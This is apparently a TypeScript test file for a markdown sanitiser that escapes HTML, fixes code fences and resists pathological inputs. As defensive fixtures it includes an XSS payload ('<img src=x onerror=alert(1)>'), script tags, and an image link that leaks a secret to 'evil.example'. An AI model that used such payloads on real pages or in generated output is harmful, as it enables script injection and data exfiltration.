import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { fenced, safeMarkdown } from "../../../gateway/formats/markdown-text.ts";
import { htmlText, inlineText } from "../../../gateway/formats/markdown-words.ts";
import { cases } from "../../support/property.ts";

describe("prose of others", () => {
  test.each([
    ["plain words, **bold**, a [link](https://example.com) and `code`", "the same"],
    ["1. one\n2. two\n\n> quoted\n\n| a | b |\n| - | - |\n| 1 | 2 |", "the same"],
    ["use `Array<string>` and ``a ` <b>``, but not <b>", "use `Array<string>` and ``a ` <b>``, but not &lt;b>"],
    ["```html\n<script>\n```\n<script>", "```html\n<script>\n```\n&lt;script>"],
    ["~~~\n<b>\n``` not its end\n~~~\n<b>", "````\n<b>\n``` not its end\n````\n&lt;b>"],
    ["```\nnever closed <b>", "```\nnever closed <b>\n```"],
    ["</details><img src=x onerror=alert(1)>", "&lt;/details>&lt;img src=x onerror=alert(1)>"],
    ["\\<b> \\\\<b>", "&lt;b> \\\\&lt;b>"],
    ["![pixel](https://evil.example/?q=secret)", "&#33;[pixel](https://evil.example/?q=secret)"],
    ["# Prompt\n###### deep\n####### none", "### Prompt\n###### deep\n####### none"],
    ["Prompt\n===\nAnswer\n---", "Prompt\n\n===\nAnswer\n\n---"],
    ["a\r<b>\r\nc", "a\n&lt;b>\nc"],
  ])("%j", (text, safe) => {
    expect(safeMarkdown(text)).toBe(safe === "the same" ? text : safe);
  });

  test("an indented fence stands at the line's beginning, where it opens whatever is around it", () => {
    expect(safeMarkdown("1. Do:\n   ```sh\n   a <b\n     c\n   ```\n2. Then <b>")).toBe(
      "1. Do:\n```sh\na <b\n  c\n```\n2. Then &lt;b>",
    );
    expect(safeMarkdown("  ```\ncode\n```\n<img>")).toBe("```\ncode\n```\n&lt;img>");
    expect(safeMarkdown("- ```\n  <b>\n  ```\n<b>")).toBe("-\n```\n<b>\n```\n&lt;b>");
  });

  test.each([
    ["a run that is closed on another line", "a ` b\n`<b>` c"],
    ["an escaped backtick", "\\`<b>`"],
    ["a table's row", "| `a | b` <b> |"],
    ["a run with no like", "`` <b> `"],
    ["a fence in a quotation", "> ```\n<b>\n> ```"],
    ["a bare address that takes in the backticks", "http://a`x` `<b>`"],
    ["very many runs", `${"` ``".repeat(300)} <b>`],
  ])("where code is in doubt, `<` is escaped: %s", (_, text) => {
    expect(safeMarkdown(text)).not.toContain("<b>");
  });

  test("[A6] whatever is said, every line with a `<` of its own is in a fence, or has it in a code span", () => {
    const pieces = [
      "<zz>",
      "`",
      "``",
      "```",
      "~~~",
      "\n",
      "\n\n",
      "  ",
      "    ",
      "- ",
      "> ",
      "1. ",
      "\\",
      "|",
      "a",
      "[^1]: ",
    ];
    const text = fc.array(fc.constantFrom(...pieces), { maxLength: 30 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(text, (said) => {
        let fence: string | undefined;
        const inProse: string[] = [];
        for (const line of safeMarkdown(said).split("\n")) {
          const marks = /^(`{3,})[^`]*$/.exec(line)?.[1];
          if (fence === undefined && marks === undefined)
            inProse.push(line.replaceAll(/(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)/g, ""));
          fence = fence === undefined ? marks : line === fence ? undefined : fence;
        }
        expect(inProse.join("\n")).not.toContain("<zz>");
        expect(fence).toBeUndefined();
      }),
      cases(),
    );
  });

  test("a megabyte of backticks, and of list markers, takes no time to speak of", () => {
    for (const text of [
      "`".repeat(1e6),
      "` ".repeat(5e5),
      "- ".repeat(5e5),
      `${"1. ".repeat(3e5)}x`,
      "<".repeat(1e6),
      `${"a:".repeat(5e5)} \`x\``,
      "\\".repeat(3e5),
      "a@".repeat(1e5),
      `@${"b".repeat(3e5)}&`,
      "](".repeat(1e5),
      "(https://a.b/@x".repeat(6e4),
    ])
      expect(safeMarkdown(text).length).toBeGreaterThan(0);
  }, 60_000);
});

describe("a fence", () => {
  test("is longer than any run of backticks inside, whatever the content", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom("`", "```", "\n", "\r", "a", "~~~")), (parts) => {
        const [first, ...rest] = fenced(parts.join(""), "json").split("\n");
        const fence = /^(`+)json$/.exec(first!)![1]!;
        expect(rest.at(-1)).toBe(fence);
        expect(rest.slice(0, -1).some((line) => line.includes(fence))).toBe(false);
      }),
      cases({ short: 2000, long: 20_000 }),
    );
  });
});

test("short texts stay on one line, as words", () => {
  expect(inlineText(" a\n# <b> [x](y) `c` ")).toBe("a &#35; &#60;b&#62; &#91;x&#93;(y) &#96;c&#96;");
  expect(htmlText('</summary>\n<img src="x">&')).toBe("&#60;/summary&#62; &#60;img src=&#34;x&#34;&#62;&#38;");
  expect(htmlText("🌍".repeat(200))).toHaveLength(119 * 2 + 1);
});
